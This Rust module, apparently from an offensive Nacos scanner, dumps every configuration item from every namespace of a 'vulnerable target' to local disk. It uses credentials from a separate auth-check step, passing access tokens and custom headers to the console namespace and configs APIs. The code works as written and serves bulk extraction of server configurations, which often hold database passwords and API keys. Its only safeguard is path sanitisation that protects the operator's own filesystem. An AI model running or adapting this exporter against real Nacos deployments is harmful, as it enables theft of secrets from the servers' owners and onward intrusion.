use crate::auth_check::Credential;
use crate::types::Target;
use crate::{Result, ScanError};
use log::{debug, info, warn};
use reqwest::Client;
use serde::Deserialize;
use std::path::{Path, PathBuf};
use tokio::fs;

#[derive(Debug, Deserialize)]
struct NamespaceList {
    #[serde(default)]
    data: Vec<Namespace>,
}

/// A Nacos namespace: tenant identifier plus the display name shown in
/// the console, which becomes the export subdirectory.
#[derive(Debug, Clone, Deserialize)]
pub struct Namespace {
    pub namespace: String,
    #[serde(rename = "namespaceShowName")]
    pub show_name: String,
}

#[derive(Debug, Deserialize)]
struct ConfigPage {
    #[serde(default, rename = "pageItems")]
    page_items: Vec<ConfigItem>,
}

#[derive(Debug, Clone, Deserialize)]
pub struct ConfigItem {
    #[serde(rename = "dataId")]
    pub data_id: String,
    #[serde(default)]
    pub content: Option<String>,
}

/// Replace path-unsafe characters in a server-provided string before it
/// is used as a directory or file name. A hostile server must not be able
/// to write outside the export root.
pub fn sanitize_path_component(raw: &str) -> String {
    let cleaned: String = raw
        .chars()
        .map(|c| match c {
            '/' | '\\' | '\0' => '_',
            c => c,
        })
        .collect();

    match cleaned.as_str() {
        "" | "." | ".." => "_".to_string(),
        _ => cleaned,
    }
}

/// Pulls every configuration item visible under every namespace of a
/// vulnerable target, writing each one to
/// `<output_root>/<host_port>/<namespace>/<dataId>.txt`.
pub struct ConfigExporter<'a> {
    client: &'a Client,
    target: &'a Target,
    credential: Credential,
    output_root: PathBuf,
}

impl<'a> ConfigExporter<'a> {
    pub fn new(
        client: &'a Client,
        target: &'a Target,
        credential: Credential,
        output_root: PathBuf,
    ) -> Self {
        Self {
            client,
            target,
            credential,
            output_root,
        }
    }

    /// Export all namespaces. A failed namespace listing aborts the whole
    /// export with nothing written; a failure inside one namespace skips
    /// that namespace only.
    pub async fn export_all(&self) -> Result<PathBuf> {
        let namespaces = self.fetch_namespaces().await?;

        let target_dir = self.output_root.join(self.target.host_dir());
        fs::create_dir_all(&target_dir).await?;

        for namespace in &namespaces {
            match self.export_namespace(namespace, &target_dir).await {
                Ok(written) => {
                    debug!(
                        "exported {} config item(s) from namespace '{}' on {}",
                        written, namespace.namespace, self.target
                    );
                }
                Err(e) => {
                    warn!(
                        "skipping namespace '{}' on {}: {}",
                        namespace.namespace, self.target, e
                    );
                }
            }
        }

        let absolute = fs::canonicalize(&target_dir).await.unwrap_or(target_dir);
        info!("export for {} finished under {}", self.target, absolute.display());
        Ok(absolute)
    }

    async fn fetch_namespaces(&self) -> Result<Vec<Namespace>> {
        let url = format!("{}/nacos/v1/console/namespaces", self.target.base_url());

        let mut request = self.client.get(&url);
        for (name, value) in &self.credential.headers {
            request = request.header(name.as_str(), value.as_str());
        }

        let response = request.send().await.map_err(|e| {
            ScanError::Export(format!("namespace listing failed for {}: {}", self.target, e))
        })?;

        if !response.status().is_success() {
            return Err(ScanError::Export(format!(
                "namespace listing returned status {} for {}",
                response.status(),
                self.target
            )));
        }

        let list: NamespaceList = response.json().await.map_err(|e| {
            ScanError::Export(format!(
                "unexpected namespace listing body from {}: {}",
                self.target, e
            ))
        })?;

        Ok(list.data)
    }

    async fn export_namespace(&self, namespace: &Namespace, target_dir: &Path) -> Result<usize> {
        let namespace_dir = target_dir.join(sanitize_path_component(&namespace.show_name));
        fs::create_dir_all(&namespace_dir).await?;

        let items = self.fetch_configs(&namespace.namespace).await?;

        let mut written = 0;
        for item in &items {
            let content = item.content.as_deref().unwrap_or("");
            if content.is_empty() {
                continue;
            }

            let file_name = format!("{}.txt", sanitize_path_component(&item.data_id));
            fs::write(namespace_dir.join(file_name), content).await?;
            written += 1;
        }

        Ok(written)
    }

    async fn fetch_configs(&self, tenant: &str) -> Result<Vec<ConfigItem>> {
        let url = format!("{}/nacos/v1/cs/configs", self.target.base_url());

        let query = [
            ("pageNo", "1"),
            ("pageSize", "100"),
            ("search", "accurate"),
            ("dataId", ""),
            ("group", ""),
            ("tenant", tenant),
            ("accessToken", self.credential.access_token.as_str()),
            ("username", self.credential.username.as_str()),
        ];

        let mut request = self.client.get(&url).query(&query);
        for (name, value) in &self.credential.headers {
            request = request.header(name.as_str(), value.as_str());
        }

        let response = request
            .send()
            .await
            .map_err(|e| ScanError::Export(format!("config listing failed: {}", e)))?;

        if !response.status().is_success() {
            return Err(ScanError::Export(format!(
                "config listing returned status {}",
                response.status()
            )));
        }

        let page: ConfigPage = response
            .json()
            .await
            .map_err(|e| ScanError::Export(format!("unexpected config listing body: {}", e)))?;

        Ok(page.page_items)
    }
}
